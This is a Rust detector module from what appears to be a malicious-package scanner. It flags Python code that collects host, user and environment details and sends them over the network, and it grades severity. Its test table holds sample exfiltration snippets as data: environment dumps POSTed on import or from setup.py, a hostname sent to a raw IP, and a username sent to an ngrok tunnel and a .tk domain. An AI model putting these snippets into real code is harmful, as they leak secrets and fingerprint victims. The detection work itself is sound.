//! `hunting.system-info`: host fingerprinting (host name, user name, MAC via
//! `uuid.getnode`, `platform.uname`, whole-environment dumps, public-IP lookups)
//! in a file that also sends data over the network — the collection half of
//! every stealer's "beacon home".
//!
//! Python code only; needs at least one collector *and* a network sink in code.
//! Tests/docs skipped.
//!
//! Severity: one fact (a host name next to a request) Medium. A whole-environment
//! dump (`dict(os.environ)`, `json.dumps(os.environ)`, `os.environ.copy()`) or a
//! fingerprint (two or more of user, host, MAC, cwd, uname near the same send) is
//! exfiltration: High. Install time, or High code that runs on import (at module
//! level, or in a top-level function the module itself calls, not under
//! `if __name__ == "__main__"`), Critical. One fact sent where a beacon goes (an
//! out-of-band collaborator, request bin or tunnel, a throwaway TLD, free hosting, a raw
//! public IP: [`super::reputation`]) is High, the destination named in the evidence.
//! Hand-built requests over a raw socket (`s.send(…)` in a file that opens one) are sends.

use super::net_ip_address::public_ip;
use super::pysrc::{self, Source, MAX_HITS_PER_FILE};
use super::reputation::{self, Class};
use super::{sinks, urls};
use crate::model::{Category, FileRole, Severity};
use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
use regex::Regex;
use std::sync::LazyLock;

pub(crate) static META: DetectorMeta = DetectorMeta {
    id: "hunting.system-info",
    revision: 3,
    title: "Collects system information and sends it over the network.",
    category: Category::Hunting,
    severity: Severity::Medium,
    description: "Host, user and environment details sent to a server are how malicious packages fingerprint and pick their victims.",
};

static COLLECT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?-u:\b)(?:platform\.node|platform\.uname|os\.uname|getpass\.getuser|os\.getlogin|socket\.gethostname|socket\.getfqdn|uuid\.getnode|os\.environ\.copy|os\.environ\.items)\s*\(|(?-u:\b)(?:dict|str|repr)\s*\(\s*os\.environ\s*\)|json\.dumps\s*\(\s*(?:dict\s*\(\s*)?os\.environ(?-u:\b)|(?:api\.ipify\.org|ipinfo\.io|ifconfig\.me|icanhazip\.com|checkip\.amazonaws\.com|ip-api\.com|wtfismyip\.com)"#).expect("collect")
});

/// Weak collectors: common alone, part of a fingerprint next to stronger ones.
static WEAK: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?-u:\b)os\.getcwd\s*\(").expect("weak"));

/// A raw socket send (`s.send(b"POST / HTTP/1.1…")`): counted only in files that open a
/// socket themselves.
static RAW_SEND: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?-u:\b)\w+\.send\s*\(").expect("raw send"));
/// A socket connect to a literal IP: `s.connect(("45.77.12.9", 80))`.
static CONNECT_IP: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"\.connect\s*\(\s*\(\s*['"]([0-9a-fA-F:.]+)['"]"#).expect("connect ip"));

/// Where this file sends to, when that place has a bad name: an out-of-band collaborator,
/// request bin or tunnel, a throwaway TLD, free hosting, a file drop, or a raw public IP.
/// A beacon's destination, for the evidence.
fn shady_destination(src: &Source<'_>) -> Option<String> {
    let receiver = |c: Class| matches!(c, Class::Collaborator | Class::RequestBin | Class::Tunnel);
    if let Some((s, e, _)) = reputation::in_text(src.text).find(|&(s, _, c)| receiver(c) && src.is_live(s)) {
        return Some(src.text[s..e].to_ascii_lowercase());
    }
    if let Some(u) = urls::find(src).find(|u| reputation::of_url(&u.host, u.path).is_some() || public_ip(&u.host)) {
        return Some(u.host);
    }
    CONNECT_IP
        .captures_iter(src.text)
        .filter(|c| src.is_code(c.get(0).expect("m").start()))
        .map(|c| c.get(1).expect("ip").as_str())
        .find(|ip| public_ip(ip))
        .map(str::to_string)
}

/// How far (in lines) collection and sending may be apart.
const WINDOW_LINES: usize = 25;

pub(crate) struct SystemInfo;

impl Detector for SystemInfo {
    fn meta(&self) -> &'static DetectorMeta {
        &META
    }
    fn interest(&self) -> Interest {
        Interest::Literals(&[
            "platform.node",
            "uname",
            "getuser",
            "getlogin",
            "gethostname",
            "getfqdn",
            "getnode",
            "os.environ",
            "ipify",
            "ipinfo",
            "ifconfig.me",
            "icanhazip",
            "checkip",
            "ip-api",
            "wtfismyip",
        ])
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        if !file.is_python || file.role == FileRole::TestOrDocs || pysrc::test_member(file) {
            return;
        }
        let src = file.source();
        // Sends only: a bare connect (SMTP EHLO, database drivers) is not a beacon.
        let lines = file.source().lines();
        let line_of = |o: usize| lines.line(o);
        let mut net: Vec<_> = sinks::network(src)
            .into_iter()
            .filter(|s| !s.name.ends_with("connect") && s.name != "socket.create_connection")
            .map(|s| (line_of(s.offset), s.name))
            .collect();
        if file.text.contains("socket.socket") || file.text.contains("create_connection") {
            // Hand-built requests over a raw socket.
            net.extend(
                RAW_SEND
                    .find_iter(file.text)
                    .filter(|m| src.is_code(m.start()))
                    .map(|m| (line_of(m.start()), m.as_str().trim_end_matches('(').trim_end())),
            );
        }
        if net.is_empty() {
            return;
        }
        let install = file.role == FileRole::InstallTime;
        // Distinct collectors near each send line, for the fingerprint rule.
        let live: Vec<(usize, &str)> = COLLECT
            .find_iter(file.text)
            .chain(WEAK.find_iter(file.text))
            .filter(|m| src.is_live(m.start()))
            .map(|m| (line_of(m.start()), m.as_str().trim_end_matches('(').trim_end()))
            .collect();
        let fingerprint_near = |send_line: usize| {
            let mut names: Vec<&str> = live
                .iter()
                .filter(|(l, _)| l.abs_diff(send_line) <= WINDOW_LINES)
                .map(|&(_, n)| if n.contains("environ") { "environ" } else { n })
                .collect();
            names.sort_unstable();
            names.dedup();
            names.len() >= 2
        };
        let shady = std::cell::OnceCell::new();
        let shady = || shady.get_or_init(|| shady_destination(src)).as_deref();
        let is_main = file.path.rsplit(['/', '!']).next() == Some("__main__.py");
        let mut n = 0;
        for m in COLLECT.find_iter(file.text) {
            if n >= MAX_HITS_PER_FILE {
                return;
            }
            if !src.is_live(m.start()) {
                continue;
            }
            let l = line_of(m.start());
            let Some(&(sink_line, sink)) =
                net.iter().min_by_key(|(sl, _)| sl.abs_diff(l)).filter(|(sl, _)| sl.abs_diff(l) <= WINDOW_LINES)
            else {
                continue;
            };
            n += 1;
            let raw = m.as_str();
            let dump = raw.contains("environ");
            let ind = if dump && !raw.contains("environ.") {
                "os.environ dump".to_string()
            } else {
                raw.trim_end_matches('(').trim_end().to_string()
            };
            let exfil = dump || fingerprint_near(sink_line);
            let sev = Some(match (install, exfil) {
                (true, _) => Severity::Critical,
                // One fact sent to a collaborator, bin, tunnel or raw IP is a beacon.
                (false, false) if shady().is_some() => Severity::High,
                (false, false) => Severity::Medium,
                (false, true) => {
                    if !is_main && pysrc::runs_on_import_at(src, m.start()) {
                        Severity::Critical
                    } else {
                        Severity::High
                    }
                }
            });
            let ind = match shady() {
                Some(dest) => format!("{ind} + {sink} to {dest}"),
                None => format!("{ind} + {sink}"),
            };
            hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, m.start(), ind) });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scan::detectors::testutil::table;
    use std::sync::LazyLock;
    use FileRole::*;
    use Severity::*;

    const BEACON: &str = "import os, socket, getpass, requests\ninfo = {'h': socket.gethostname(), 'u': getpass.getuser()}\nrequests.post(U, json=info)\n";

    static FAR: LazyLock<String> =
        LazyLock::new(|| format!("h = socket.gethostname()\n{}requests.post(U)\n", "x = 1\n".repeat(40)));

    #[test]
    fn cases() {
        table(
            &SystemInfo,
            META.id,
            &[
                ("beacon at module level", "pkg/a.py", Runtime, BEACON, Some((2, "socket.gethostname + requests.post", Critical))),
                (
                    "fingerprint in a function nobody calls on import",
                    "pkg/a.py",
                    Runtime,
                    "def report():\n    info = {'h': socket.gethostname(), 'u': getpass.getuser()}\n    requests.post(U, json=info)\n",
                    Some((2, "socket.gethostname + requests.post", High)),
                ),
                (
                    "ctx: env dump POSTed from a function called on import",
                    "demo_ctx/__init__.py",
                    Runtime,
                    "import os, urllib.request, json\ndef _init():\n    data = json.dumps(dict(os.environ)).encode()\n    urllib.request.urlopen('https://x.example.org/collect', data=data)\n_init()\n",
                    Some((3, "os.environ dump + urllib.request.urlopen", Critical)),
                ),
                (
                    "env dump sent two calls deep from import-time code",
                    "pkg/__init__.py",
                    Runtime,
                    "def _send():\n    requests.post(U, json=dict(os.environ))\ndef _init():\n    _send()\n_init()\n",
                    Some((2, "os.environ dump + requests.post", Critical)),
                ),
                (
                    "fingerprint sent from a thread started on import",
                    "pkg/__init__.py",
                    Runtime,
                    "import threading\ndef _beat():\n    d = {'h': socket.gethostname(), 'u': getpass.getuser()}\n    requests.post(U, json=d)\nthreading.Thread(target=_beat).start()\n",
                    Some((3, "socket.gethostname + requests.post", Critical)),
                ),
                (
                    "env dump in a method of a class the module defines",
                    "pkg/client.py",
                    Runtime,
                    "class Client:\n    def report(self):\n        requests.post(U, json=dict(os.environ))\nreport = 1\n",
                    Some((3, "os.environ dump + requests.post", High)),
                ),
                (
                    "env dump sent from a function called only under __main__",
                    "pkg/cli.py",
                    Runtime,
                    "def dump():\n    requests.post(U, json=dict(os.environ))\nif __name__ == '__main__':\n    dump()\n",
                    Some((2, "os.environ dump + requests.post", High)),
                ),
                (
                    "user and cwd sent from a method",
                    "pkg/a.py",
                    Runtime,
                    "class C:\n    def f(self):\n        d = {'u': getpass.getuser(), 'cwd': os.getcwd()}\n        requests.post(U, json=d)\n",
                    Some((3, "getpass.getuser + requests.post", High)),
                ),
                (
                    "one fact (host name) in a telemetry function",
                    "pkg/a.py",
                    Runtime,
                    "def send(ev):\n    ev['server_name'] = socket.gethostname()\n    requests.post(U, json=ev)\n",
                    Some((2, "socket.gethostname + requests.post", Medium)),
                ),
                (
                    "HOME read and a request",
                    "pkg/a.py",
                    Runtime,
                    "home = os.environ.get('HOME')\ncwd = os.getcwd()\nr = requests.get(U)\n",
                    None,
                ),
                (
                    "setup.py env dump",
                    "setup.py",
                    InstallTime,
                    "data = json.dumps(dict(os.environ))\nurllib.request.urlopen(urllib.request.Request(U, data))\n",
                    Some((1, "os.environ dump + urllib.request.urlopen", Critical)),
                ),
                (
                    "hostname without network",
                    "pkg/log.py",
                    Runtime,
                    "HOST = socket.gethostname()\nlog.info(HOST)\n",
                    None,
                ),
                ("env lookup of one key", "pkg/a.py", Runtime, "t = os.environ.get('TOKEN')\nrequests.post(U)\n", None),
                ("tests", "pkg/tests/test_a.py", Runtime, BEACON, None),
                (
                    "smtp-like: hostname and a connect only",
                    "pkg/mail.py",
                    Runtime,
                    "name = socket.getfqdn()\nself.sock = socket.create_connection((h, p))\n",
                    None,
                ),
                ("collection far from the send", "pkg/far.py", Runtime, FAR.as_str(), None),
                (
                    "host name to a raw IP over a hand-built HTTP request",
                    "pkg/util.py",
                    Runtime,
                    "import socket\ndef ping():\n    s = socket.socket()\n    s.connect(('45.77.12.9', 80))\n    s.send(b'GET /?h=' + socket.gethostname().encode() + b' HTTP/1.1\\r\\n\\r\\n')\n",
                    Some((5, "socket.gethostname + s.send to 45.77.12.9", High)),
                ),
                (
                    "environment mailed out",
                    "pkg/report.py",
                    Runtime,
                    "def report():\n    s = smtplib.SMTP('mail.example.org', 587)\n    s.sendmail(A, B, json.dumps(dict(os.environ)))\n",
                    Some((3, "os.environ dump + smtplib.SMTP", High)),
                ),
                (
                    "user name to a tunnel",
                    "pkg/util.py",
                    Runtime,
                    "def cb():\n    requests.post('https://ab12.ngrok-free.app/x', data=getpass.getuser())\n",
                    Some((2, "getpass.getuser + requests.post to ab12.ngrok-free.app", High)),
                ),
                (
                    "host name to a throwaway TLD",
                    "pkg/util.py",
                    Runtime,
                    "def cb():\n    urlopen('http://upd-check.tk/?' + platform.node())\n",
                    Some((2, "platform.node + urlopen to upd-check.tk", High)),
                ),
                (
                    "logging library: host name in a record sent to the configured server",
                    "logkit/handlers.py",
                    Runtime,
                    "class HTTPHandler:\n    def emit(self, record):\n        record['host'] = socket.gethostname()\n        requests.post(self.url, json=record)\n",
                    Some((3, "socket.gethostname + requests.post", Medium)),
                ),
            ],
        );
    }
}
